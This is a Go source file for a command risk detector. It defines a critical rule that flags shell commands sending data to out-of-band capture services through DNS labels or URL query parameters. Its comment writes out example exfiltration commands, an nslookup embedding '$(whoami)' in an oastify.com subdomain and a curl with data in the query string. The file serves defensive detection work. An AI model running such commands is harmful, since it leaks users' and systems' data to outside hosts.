package riskmodel

import (
	"net/url"
	"strings"
)

// Out-of-band capture hosts reached from a shell: the same services r18OASTDomains lists for
// MCP fetches (Burp Collaborator, interactsh, dnslog, Canarytokens…) record every DNS lookup
// and request of their names, so a command that puts data into the labels before the
// service's id (`nslookup $(whoami).x7k2.oastify.com`) or into the query (`curl
// https://id.oastify.com/?h=…`) has delivered it by the lookup alone. A bare lookup of the
// service's id with nothing added carries nothing and is left to the other rules.

// oastShellCallback says which argument of the segment reaches a capture host with data, ""
// when none does.
func oastShellCallback(s *Segment) string {
	for _, a := range s.Args[1:] {
		host, raw := a, ""
		if strings.Contains(a, "://") {
			u, err := url.Parse(a)
			if err != nil {
				continue
			}
			host, raw = u.Hostname(), a
		} else if strings.ContainsAny(a, "/:=@ ") || strings.HasPrefix(a, "-") {
			continue
		}
		base, sub := r18OASTBase(host)
		if base == "" {
			continue
		}
		if len(sub) >= 2 {
			return "looks up " + capText(host) + ": " + base + " records the lookup, and the labels before its id carry data"
		}
		if raw != "" {
			if k, ok := urlCarriesData(raw); ok {
				return "requests " + capText(host) + " with data in ?" + capText(k) + ": " + base + " records every request"
			}
		}
	}
	return ""
}

func r18OASTExecRules() []*Rule {
	return []*Rule{{
		ID: "net.oast-callback", Level: Critical, Category: CatDataExfiltration, Certain: true,
		Message: "Sends data to an out-of-band capture service by looking up or requesting its names",
		exec: func(c *execCtx, s *Segment) (string, bool) {
			if len(s.Args) < 2 {
				return "", false
			}
			if why := oastShellCallback(s); why != "" {
				return "Runs " + s.Name() + ", which " + why, true
			}
			return "", false
		},
	}}
}
